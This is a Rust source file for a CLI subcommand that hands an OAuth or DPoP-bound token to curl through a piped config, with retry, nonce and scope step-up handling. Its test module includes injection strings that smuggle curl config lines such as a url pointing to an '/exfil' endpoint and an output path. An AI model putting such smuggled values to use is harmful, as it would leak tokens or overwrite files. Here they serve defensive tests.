//! `oauthctl curl`: runs the system curl with the token in a config that it
//! reads from a pipe (`curl -K /dev/fd/N`), so the token is never in curl's
//! argv (`ps`, /proc/PID/cmdline) and never on disk. The pipe, not `-K -`,
//! because curl's stdin stays the user's (`-d @-`, `-T -`).
//!
//! By default curl *replaces* oauthctl (exec): the config is already in the
//! pipe, so nobody needs to stay behind, curl gets signals and the terminal
//! itself, its exit code is the exit code, and the call costs what curl costs
//! (issue 9). `--retry-rejected` keeps oauthctl as curl's parent instead, so
//! that a 401 invalid_token can be answered with a refresh and a second try.

use super::Ctx;
use super::curl_request;
use super::engine::{self, Slot, Want};
use super::on_demand::{self, Consent};
use crate::cli::CurlArgs;
use crate::error::usage;
use crate::oauth::challenge;
use crate::oauth::dpop::{Dpop, ProofFor};
use crate::options::TokenIn;
use crate::output;
use crate::secret::Secret;
use crate::settings::Profile;
use crate::signals::Forwarding;
use crate::store::TokenSet;
use anyhow::{Context, Result};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitStatus, Stdio};

/// What `run` hands back to `lib`: curl's own exit code.
pub struct CurlExit(pub u8);

pub fn run(ctx: &Ctx, args: &CurlArgs) -> Result<CurlExit> {
    let profile = Profile::resolve(&ctx.globals, &args.provider)?;
    let token_in = profile.token_in.unwrap_or(TokenIn::Header);
    if token_in == TokenIn::Query {
        log::warn!(
            "--token-in query puts the token in the URL, where server and proxy logs may keep it"
        );
    }
    let curl = find_curl()?;
    let slot = Slot::for_profile(&profile);
    let min_ttl = profile.min_ttl();
    let consent = Consent::of(args.on_demand.no_login, &profile);
    let asked = &args.provider.scopes;
    let set = on_demand::obtain_with_scopes(
        ctx,
        &profile,
        &slot,
        Want::Fresh { min_ttl },
        consent,
        asked,
    )?;
    // A profile made from a resource URL (an MCP server) expects a step-up
    // on 403 insufficient_scope, which needs curl's answer seen.
    let retry = profile
        .retry_rejected
        .unwrap_or(profile.resource_url.is_some());
    let dpop = if set.is_dpop_bound() {
        if token_in == TokenIn::Query {
            return Err(usage(
                "a DPoP-bound token goes in the Authorization header only (RFC 9449 §7.1): drop --token-in query",
            ));
        }
        let request = curl_request::request_line(&args.args)?;
        if request.follows_redirects {
            log::warn!(
                "with -L, a redirected request carries the proof made for {}, which another URL's server refuses",
                request.url
            );
        }
        Some(DpopRequest {
            key: engine::dpop_key(ctx, &profile, &slot, &set)?,
            request,
        })
    } else {
        None
    };
    // A DPoP server may ask for a nonce in a 401 (RFC 9449 §9), answered by
    // a second try, which needs the first response held back.
    let replayable = is_replayable(&args.args);
    #[cfg(unix)]
    if !(retry || dpop.is_some() && replayable) {
        let proof = dpop.as_ref().map(|d| d.proof(&set, None)).transpose()?;
        let TooLargeForPipe = exec(
            &curl,
            &args.args,
            &set,
            token_in,
            client_cert(&profile),
            proof.as_ref(),
        )?;
    }
    let run = Supervised {
        curl: &curl,
        user_args: &args.args,
        token_in,
        client_cert: client_cert(&profile),
        dpop: dpop.as_ref(),
        consent,
    };
    supervise(ctx, &profile, &slot, &run, &set, retry, replayable)
}

/// A DPoP-bound token's key, and the request its proofs are for.
struct DpopRequest {
    key: Dpop,
    request: curl_request::RequestLine,
}

impl DpopRequest {
    /// A fresh proof for `set`'s access token, with the API's nonce once it
    /// asked for one.
    fn proof(&self, set: &TokenSet, nonce: Option<&str>) -> Result<Secret> {
        let proof = self.key.proof(
            &ProofFor {
                htm: &self.request.method,
                htu: &self.request.url,
                access_token: Some(set.access_token.expose()),
                nonce,
            },
            crate::store::now(),
        )?;
        Ok(proof)
    }
}

/// The profile's client certificate, for curl to present.
pub fn client_cert(profile: &Profile) -> ClientCert<'_> {
    profile
        .client_cert
        .as_deref()
        .zip(profile.client_cert_key.as_deref())
}

/// `exec` came back without running curl: the config is larger than a pipe
/// holds, so somebody must stay to write it while curl reads.
#[cfg(unix)]
pub struct TooLargeForPipe;

/// Replaces oauthctl with curl, its config already waiting in the pipe.
/// Returns only on failure, or when the config does not fit in the pipe.
#[cfg(unix)]
pub fn exec(
    curl: &Path,
    user_args: &[String],
    set: &TokenSet,
    token_in: TokenIn,
    client_cert: ClientCert,
    proof: Option<&Secret>,
) -> Result<TooLargeForPipe> {
    use std::os::fd::AsRawFd;
    use std::os::unix::process::CommandExt;
    let (config, args) = curl_config(user_args, set, token_in, client_cert, proof)?;
    let (reader, mut writer) = std::io::pipe().context("cannot create a pipe for curl's config")?;
    // Nobody writes once curl runs, so the whole config must fit now; a
    // full pipe must not block oauthctl before curl even starts.
    rustix::fs::fcntl_setfl(&writer, rustix::fs::OFlags::NONBLOCK)
        .context("cannot prepare the config pipe for curl")?;
    match writer.write_all(config.as_bytes()) {
        Ok(()) => drop(writer),
        Err(err) if err.kind() == std::io::ErrorKind::WouldBlock => return Ok(TooLargeForPipe),
        Err(err) => return Err(err).context("cannot write curl's config to its pipe"),
    }
    // std makes pipes close-on-exec; this one end must reach curl, and every
    // other descriptor oauthctl opened (store, lock) is close-on-exec.
    rustix::io::fcntl_setfd(&reader, rustix::io::FdFlags::empty())
        .context("cannot hand the config pipe to curl")?;
    let err = crate::settings::without_secrets(&mut Command::new(curl))
        .arg("-K")
        .arg(format!("/dev/fd/{}", reader.as_raw_fd()))
        .args(&args)
        .exec();
    Err(err).with_context(|| format!("cannot run {}", curl.display()))
}

/// oauthctl stays curl's parent: it writes the config while curl reads it,
/// forwards signals, and holds a replayable request's response back until
/// it knows that no second try is needed: for a DPoP nonce the API asked
/// for, or (with `retry`) for an invalid_token 401.
fn supervise(
    ctx: &Ctx,
    profile: &Profile,
    slot: &Slot,
    run: &Supervised,
    set: &TokenSet,
    retry: bool,
    replayable: bool,
) -> Result<CurlExit> {
    let workdir = private_workdir(ctx.globals.runtime_dir.as_deref())?;
    // SIGINT, SIGTERM and SIGHUP go to curl, and oauthctl waits for it; one
    // that arrives while no curl runs removes the work dir first.
    let signals = {
        let path = workdir.path().to_owned();
        Forwarding::start(move || {
            let _ = std::fs::remove_dir_all(&path);
        })?
    };
    let attempt = Attempt {
        workdir: workdir.path(),
        signals: &signals,
    };
    let capture = replayable && (retry || run.dpop.is_some());
    let first = invoke(run, &attempt, set, capture, None)?;
    if signals.received().is_some() {
        return Ok(CurlExit(exit_code(first.status)));
    }
    let Some(captured) = &first.captured else {
        return Ok(CurlExit(exit_code(first.status)));
    };
    let headers = std::fs::read_to_string(&captured.headers).unwrap_or_default();
    if run.dpop.is_some()
        && let Some(nonce) = nonce_challenge(&headers)
    {
        log::info!("the API asked for a DPoP nonce: sending the request again with it");
        let second = invoke(run, &attempt, set, false, Some(&nonce))?;
        return Ok(CurlExit(exit_code(second.status)));
    }
    if retry && rejected_token(&headers) {
        ctx.note("The API rejected the token (invalid_token): refreshing it and retrying once.");
        // Marked expired first: should the refresh fail, no later `token`
        // hands out what the API refused. One another process renewed
        // meanwhile stays, and is what the retry then gets.
        engine::expire_access_token(ctx, profile, slot, Some(set.access_token.expose()))?;
        let renewed = engine::obtain(ctx, profile, slot, Want::Fresh { min_ttl: 0 })?;
        let second = invoke(run, &attempt, &renewed, false, None)?;
        return Ok(CurlExit(exit_code(second.status)));
    }
    if retry && let Some(asked) = scope_challenge(&headers) {
        let missing = match on_demand::missing_scopes(set, &asked) {
            // Granted scopes unknown: what the API names is what it lacks.
            none if none.is_empty() && set.scope.is_none() => asked.clone(),
            missing => missing,
        };
        if missing.is_empty() {
            log::warn!(
                "the API answered 403 insufficient_scope asking for {}, which the token has: not logging in again",
                asked.join(" ")
            );
        } else {
            // One step-up per call: the second answer is curl's, whatever it is.
            let wider = on_demand::step_up(ctx, profile, slot, set, &missing, run.consent)?;
            let second = invoke(run, &attempt, &wider, false, None)?;
            return Ok(CurlExit(exit_code(second.status)));
        }
    }
    copy_to_stdout(&captured.body)?;
    Ok(CurlExit(exit_code(first.status)))
}

struct Invocation {
    status: ExitStatus,
    /// For replayable requests: the first response's body and headers, held
    /// back until we know it is not an invalid_token 401.
    captured: Option<Captured>,
}

struct Captured {
    headers: PathBuf,
    body: PathBuf,
}

/// What stays the same between the first curl run and the retry.
struct Supervised<'a> {
    curl: &'a Path,
    user_args: &'a [String],
    token_in: TokenIn,
    client_cert: ClientCert<'a>,
    dpop: Option<&'a DpopRequest>,
    /// May a step-up log in.
    consent: Consent,
}

/// Where the attempts keep what they capture, and who forwards signals.
struct Attempt<'a> {
    workdir: &'a Path,
    signals: &'a Forwarding,
}

fn invoke(
    run: &Supervised,
    attempt: &Attempt,
    set: &TokenSet,
    capture: bool,
    nonce: Option<&str>,
) -> Result<Invocation> {
    let Supervised {
        curl,
        user_args,
        token_in,
        client_cert,
        dpop,
        consent: _,
    } = *run;
    let Attempt { workdir, signals } = *attempt;
    let proof = dpop.map(|d| d.proof(set, nonce)).transpose()?;
    let (config, args) = curl_config(user_args, set, token_in, client_cert, proof.as_ref())?;
    let mut command = Command::new(curl);
    crate::settings::without_secrets(&mut command);
    let pipe = ConfigPipe::attach(&mut command, &args)?;
    command.args(&args);
    let captured = capture.then(|| Captured {
        headers: workdir.join("headers"),
        body: workdir.join("body"),
    });
    if let Some(captured) = &captured {
        // Our -D and -o come first so that the user's own -o/-D still win.
        let body = create_private(&captured.body)?;
        // curl keeps the mode of a file that exists: 0600, like the body.
        drop(create_private(&captured.headers)?);
        command
            .arg("-D")
            .arg(&captured.headers)
            .stdout(Stdio::from(body));
    }
    let mut child = command
        .spawn()
        .with_context(|| format!("cannot run {}", curl.display()))?;
    signals.set_child(Some(child.id()));
    pipe.send(config.as_bytes());
    let status = child.wait();
    signals.set_child(None);
    let status = status.with_context(|| format!("cannot wait for {}", curl.display()))?;
    Ok(Invocation { status, captured })
}

/// The write end of the pipe curl reads its config from.
struct ConfigPipe {
    writer: Option<std::io::PipeWriter>,
    #[cfg(unix)]
    reader: Option<std::io::PipeReader>,
}

impl ConfigPipe {
    /// Adds `-K /dev/fd/N` to `command`, N being a pipe curl inherits. On
    /// Windows, where there is no /dev/fd, curl reads the config from stdin
    /// (`-K -`), so a request that needs stdin itself is refused.
    fn attach(command: &mut Command, user_args: &[String]) -> Result<ConfigPipe> {
        let (reader, writer) = std::io::pipe().context("cannot create a pipe for curl's config")?;
        #[cfg(unix)]
        {
            use std::os::fd::AsRawFd;
            let _ = user_args;
            // std makes pipes close-on-exec; this one end must reach curl.
            // oauthctl starts no other process meanwhile, so it reaches no other.
            rustix::io::fcntl_setfd(&reader, rustix::io::FdFlags::empty())
                .context("cannot hand the config pipe to curl")?;
            command
                .arg("-K")
                .arg(format!("/dev/fd/{}", reader.as_raw_fd()));
            Ok(ConfigPipe {
                writer: Some(writer),
                reader: Some(reader),
            })
        }
        #[cfg(not(unix))]
        {
            if reads_stdin(user_args) {
                return Err(usage(
                    "on Windows curl reads oauthctl's config from stdin, so the request cannot read stdin too: use -d @FILE",
                ));
            }
            command.arg("-K").arg("-").stdin(Stdio::from(reader));
            Ok(ConfigPipe {
                writer: Some(writer),
            })
        }
    }

    /// Writes the config and closes the pipe, so curl reads it to the end.
    /// A curl that exited before reading it says so in its own exit code.
    fn send(mut self, config: &[u8]) {
        #[cfg(unix)]
        drop(self.reader.take());
        if let Some(mut writer) = self.writer.take() {
            let _ = writer.write_all(config);
        }
    }
}

/// The curl config carrying the token, and the argv without any URL that
/// had to move into the config (query mode).
fn curl_config(
    user_args: &[String],
    set: &TokenSet,
    token_in: TokenIn,
    client_cert: ClientCert,
    proof: Option<&Secret>,
) -> Result<(String, Vec<String>)> {
    let (mut config, args) = token_config(user_args, set, token_in, proof)?;
    // A certificate-bound token (RFC 8705) works only with its certificate.
    if let Some((cert, key)) = client_cert {
        for (name, path) in [("cert", cert), ("key", key)] {
            let path = path.to_str().with_context(|| {
                format!("curl's config cannot name {} (not UTF-8)", path.display())
            })?;
            if path.contains(['\n', '\r']) {
                return Err(usage(format!("the {name} path has a line break in it")));
            }
            config.push_str(&format!("{name} = \"{}\"\n", quote(path)));
        }
    }
    Ok((config, args))
}

/// The client certificate and key curl presents, when the profile has one.
pub type ClientCert<'a> = Option<(&'a Path, &'a Path)>;

fn token_config(
    user_args: &[String],
    set: &TokenSet,
    token_in: TokenIn,
    proof: Option<&Secret>,
) -> Result<(String, Vec<String>)> {
    // Checked when parsed, and again on the way out: a curl config line
    // with a newline in it is a new curl option.
    let (_, token) = output::checked_token(set)?;
    match token_in {
        TokenIn::Header if set.is_dpop_bound() => {
            let proof = proof.ok_or_else(|| {
                anyhow::anyhow!("a DPoP-bound token needs a proof for each request")
            })?;
            let lines = output::dpop_header_lines(set, proof)?;
            let config: String = lines
                .iter()
                .map(|line| format!("header = \"{}\"\n", quote(line)))
                .collect();
            Ok((config, user_args.to_vec()))
        }
        TokenIn::Header => {
            let header = output::authorization_header(set)?;
            Ok((
                format!("header = \"{}\"\n", quote(&header)),
                user_args.to_vec(),
            ))
        }
        TokenIn::Query => {
            let mut config = String::new();
            let mut args = Vec::new();
            let mut moved = 0;
            let mut iter = user_args.iter().peekable();
            while let Some(arg) = iter.next() {
                if arg == "--url" {
                    if let Some(url) = iter.next() {
                        config
                            .push_str(&format!("url = \"{}\"\n", quote(&with_token(url, token)?)));
                        moved += 1;
                    }
                } else if looks_like_url(arg) {
                    config.push_str(&format!("url = \"{}\"\n", quote(&with_token(arg, token)?)));
                    moved += 1;
                } else {
                    args.push(arg.clone());
                }
            }
            if moved == 0 {
                return Err(usage(
                    "--token-in query needs the URL among curl's arguments (http:// or https://, or --url URL)",
                ));
            }
            Ok((config, args))
        }
    }
}

fn looks_like_url(arg: &str) -> bool {
    arg.starts_with("http://") || arg.starts_with("https://")
}

fn with_token(raw: &str, token: &str) -> Result<String> {
    let mut url =
        url::Url::parse(raw).map_err(|err| usage(format!("`{raw}` is not a URL: {err}")))?;
    url.query_pairs_mut().append_pair("access_token", token);
    Ok(url.to_string())
}

/// curl config strings: backslash and double quote are escaped.
fn quote(value: &str) -> String {
    value.replace('\\', "\\\\").replace('"', "\\\"")
}

/// A request whose body comes from stdin, or that already dumps headers
/// itself, cannot be replayed after a 401.
fn is_replayable(args: &[String]) -> bool {
    !reads_stdin(args)
        && !args.iter().any(|arg| {
            matches!(arg.as_str(), "-D" | "--dump-header" | "-N" | "--no-buffer")
                || arg.starts_with("--dump-header=")
        })
}

fn reads_stdin(args: &[String]) -> bool {
    let mut previous = "";
    for arg in args {
        if arg.contains("@-")
            || (arg == "-"
                && matches!(
                    previous,
                    "-T" | "--upload-file" | "-d" | "--data" | "--data-binary" | "-F" | "--form"
                ))
        {
            return true;
        }
        previous = arg;
    }
    false
}

/// The status and header lines of the last response in a curl header dump.
fn last_response(headers: &str) -> (&str, Vec<&str>) {
    let last = headers
        .split("\r\n\r\n")
        .filter(|block| block.trim_start().starts_with("HTTP/"))
        .last()
        .unwrap_or("");
    let mut lines = last.lines();
    let status = lines
        .next()
        .and_then(|l| l.split_whitespace().nth(1))
        .unwrap_or("");
    (status, lines.collect())
}

/// A response's header value named `name`, each line that has it.
fn header_values<'a>(lines: &[&'a str], name: &str) -> Vec<&'a str> {
    lines
        .iter()
        .filter_map(|line| {
            let (key, value) = line.split_once(':')?;
            key.trim()
                .eq_ignore_ascii_case(name)
                .then_some(value.trim())
        })
        .collect()
}

/// The Bearer and DPoP challenges of the last response, when its status is `status`.
fn token_challenges(headers: &str, status: &str) -> Vec<challenge::Challenge> {
    let (answered, lines) = last_response(headers);
    if answered != status {
        return Vec::new();
    }
    challenge::parse(&header_values(&lines, "www-authenticate"))
        .into_iter()
        .filter(|c| c.scheme == "bearer" || c.scheme == "dpop")
        .collect()
}

/// The scopes of the last response's 403 `insufficient_scope` challenge
/// (RFC 6750 §3.1), which MCP servers send for a step-up.
fn scope_challenge(headers: &str) -> Option<Vec<String>> {
    challenge::insufficient_scope(&token_challenges(headers, "403"))
        .filter(|scopes| !scopes.is_empty())
}

/// The last response in a curl header dump was a 401 whose Bearer or DPoP
/// challenge says the token is invalid (RFC 6750 §3.1, RFC 9449 §7.1).
fn rejected_token(headers: &str) -> bool {
    token_challenges(headers, "401")
        .iter()
        .any(|c| c.param("error") == Some("invalid_token"))
}

/// The last response was a 401 asking for a DPoP nonce (RFC 9449 §9), and
/// carried one that can go into a proof.
fn nonce_challenge(headers: &str) -> Option<String> {
    let asked = token_challenges(headers, "401")
        .iter()
        .any(|c| c.scheme == "dpop" && c.param("error") == Some("use_dpop_nonce"));
    if !asked {
        return None;
    }
    let (_, lines) = last_response(headers);
    header_values(&lines, "dpop-nonce")
        .into_iter()
        .find(|value| crate::oauth::dpop::valid_nonce(value))
        .map(str::to_owned)
}

fn copy_to_stdout(path: &Path) -> Result<()> {
    let mut file = std::fs::File::open(path).context("cannot read curl's captured output")?;
    let mut stdout = std::io::stdout().lock();
    match std::io::copy(&mut file, &mut stdout).and_then(|_| stdout.flush()) {
        Ok(()) => Ok(()),
        Err(err) if err.kind() == std::io::ErrorKind::BrokenPipe => Ok(()),
        Err(err) => Err(anyhow::anyhow!("cannot write to stdout: {err}")),
    }
}

fn exit_code(status: ExitStatus) -> u8 {
    if let Some(code) = status.code() {
        return code.clamp(0, 255) as u8;
    }
    #[cfg(unix)]
    {
        use std::os::unix::process::ExitStatusExt;
        if let Some(signal) = status.signal() {
            return (128 + signal).clamp(0, 255) as u8;
        }
    }
    1
}

pub fn find_curl() -> Result<PathBuf> {
    let name = if cfg!(windows) { "curl.exe" } else { "curl" };
    std::env::var_os("PATH")
        .into_iter()
        .flat_map(|path| std::env::split_paths(&path).collect::<Vec<_>>())
        .map(|dir| dir.join(name))
        .find(|candidate| candidate.is_file())
        .ok_or_else(|| anyhow::anyhow!("curl is not installed or not on PATH: install curl, or use `oauthctl token -o header`"))
}

/// A 0700 temp dir for curl's captured response, removed on drop (and by
/// the signal handler): in $XDG_RUNTIME_DIR (tmpfs, per user) when there is one.
fn private_workdir(runtime_dir: Option<&Path>) -> Result<tempfile::TempDir> {
    let base = runtime_dir
        .map(Path::to_path_buf)
        .unwrap_or_else(std::env::temp_dir);
    let mut builder = tempfile::Builder::new();
    builder.prefix("oauthctl-curl-");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        builder.permissions(std::fs::Permissions::from_mode(0o700));
    }
    builder
        .tempdir_in(&base)
        .with_context(|| format!("cannot create a private temp dir in {}", base.display()))
}

/// A new 0600 file: a response body may be as private as the token.
fn create_private(path: &Path) -> Result<std::fs::File> {
    let mut options = std::fs::OpenOptions::new();
    options.write(true).create_new(true);
    #[cfg(unix)]
    {
        use std::os::unix::fs::OpenOptionsExt;
        options.mode(0o600);
    }
    options
        .open(path)
        .with_context(|| format!("cannot create {}", path.display()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::secret::Secret;

    fn set() -> TokenSet {
        TokenSet {
            access_token: Secret::new("tok+en/="),
            token_type: Some("BearerToken".into()),
            ..TokenSet::default()
        }
    }

    #[test]
    fn header_mode_keeps_argv_and_quotes() {
        let args = vec!["-sS".to_owned(), "https://api.example/x".to_owned()];
        let (config, argv) = curl_config(&args, &set(), TokenIn::Header, None, None).unwrap();
        assert_eq!(config, "header = \"Authorization: Bearer tok+en/=\"\n");
        assert_eq!(argv, args);
    }

    #[test]
    fn query_mode_moves_urls_into_the_config() {
        let args: Vec<String> = [
            "-s",
            "https://api.example/x?a=1",
            "--url",
            "http://127.0.0.1:1/y",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        let (config, argv) = curl_config(&args, &set(), TokenIn::Query, None, None).unwrap();
        assert_eq!(argv, vec!["-s"]);
        assert!(
            config.contains("url = \"https://api.example/x?a=1&access_token=tok%2Ben%2F%3D\""),
            "{config}"
        );
        assert!(config.contains("http://127.0.0.1:1/y?access_token="));
        assert!(curl_config(&["-s".to_owned()], &set(), TokenIn::Query, None, None).is_err());
    }

    #[test]
    fn a_token_that_could_inject_curl_options_is_never_written() {
        let mut hostile = set();
        hostile.token_type = Some("Bearer X\nurl = http://127.0.0.2/exfil\n#".into());
        assert!(curl_config(&[], &hostile, TokenIn::Header, None, None).is_err());
        let mut hostile = set();
        hostile.access_token = Secret::new("t\noutput = /tmp/owned");
        assert!(curl_config(&[], &hostile, TokenIn::Header, None, None).is_err());
    }

    #[test]
    fn stdin_bodies_are_not_replayed() {
        let args = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        assert!(is_replayable(&args(&["-s", "https://x"])));
        assert!(!is_replayable(&args(&["-d", "@-", "https://x"])));
        assert!(!is_replayable(&args(&["-T", "-", "https://x"])));
        assert!(!is_replayable(&args(&["-D", "h.txt", "https://x"])));
    }

    #[test]
    fn detects_invalid_token_challenges() {
        assert!(rejected_token(
            "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer error=\"invalid_token\"\r\n\r\n"
        ));
        assert!(rejected_token(
            "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: DPoP algs=\"ES256\", error=\"invalid_token\"\r\n\r\n"
        ));
        assert!(!rejected_token(
            "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer error=\"invalid_token\"\r\n\r\nHTTP/1.1 200 OK\r\n\r\n"
        ));
        assert!(!rejected_token(
            "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=x\r\n\r\n"
        ));
    }

    #[test]
    fn a_dpop_nonce_challenge_yields_its_nonce() {
        let asked = "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: DPoP error=\"use_dpop_nonce\", error_description=\"x\"\r\nDPoP-Nonce: eyJ7S_zG.eyJH0-Z\r\n\r\n";
        assert_eq!(nonce_challenge(asked).as_deref(), Some("eyJ7S_zG.eyJH0-Z"));
        // No challenge, no nonce worth a retry; a nonce that could not go
        // into a proof is not taken.
        assert_eq!(
            nonce_challenge("HTTP/1.1 200 OK\r\nDPoP-Nonce: abc\r\n\r\n"),
            None
        );
        assert_eq!(
            nonce_challenge(
                "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: DPoP error=\"use_dpop_nonce\"\r\nDPoP-Nonce: a b\r\n\r\n"
            ),
            None
        );
    }

    #[test]
    fn a_dpop_token_goes_with_its_proof_and_never_alone() {
        let mut bound = set();
        bound.token_type = Some("DPoP".into());
        bound.access_token = Secret::new("at");
        let args = vec!["https://api.example/x".to_owned()];
        assert!(curl_config(&args, &bound, TokenIn::Header, None, None).is_err());
        let proof = Secret::new("aGVhZGVy.Y2xhaW1z.c2ln");
        let (config, argv) =
            curl_config(&args, &bound, TokenIn::Header, None, Some(&proof)).unwrap();
        assert_eq!(
            config,
            "header = \"Authorization: DPoP at\"\nheader = \"DPoP: aGVhZGVy.Y2xhaW1z.c2ln\"\n"
        );
        assert_eq!(argv, args);
        let hostile = Secret::new("a.b.c\nurl = http://127.0.0.2/");
        assert!(curl_config(&args, &bound, TokenIn::Header, None, Some(&hostile)).is_err());
    }
}
